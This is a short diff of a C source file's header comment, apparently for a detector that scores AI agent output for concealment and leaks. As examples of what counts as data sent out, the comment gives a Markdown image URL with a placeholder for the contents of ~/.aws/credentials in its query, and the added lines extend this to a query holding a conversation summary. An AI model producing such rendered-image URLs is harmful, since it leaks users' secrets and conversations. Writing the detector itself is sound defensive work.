@@ -3,7 +3,9 @@
  * apply it") is decoded and its text scored as sentences, the encoding itself counting as
  * concealment when what it says is sensitive; a URL whose query holds a placeholder naming a
  * secret's store (a Markdown image `![badge](https://host/b.svg?c=<contents of
- * ~/.aws/credentials>)`, fetched when the answer is rendered) is that secret sent. */
+ * ~/.aws/credentials>)`, fetched when the answer is rendered) is that secret sent, and one
+ * naming the conversation or what the agent read (`?s=<summary of the conversation>`) is the
+ * conversation sent. */
 #include <stdlib.h>
 #include <string.h>
 
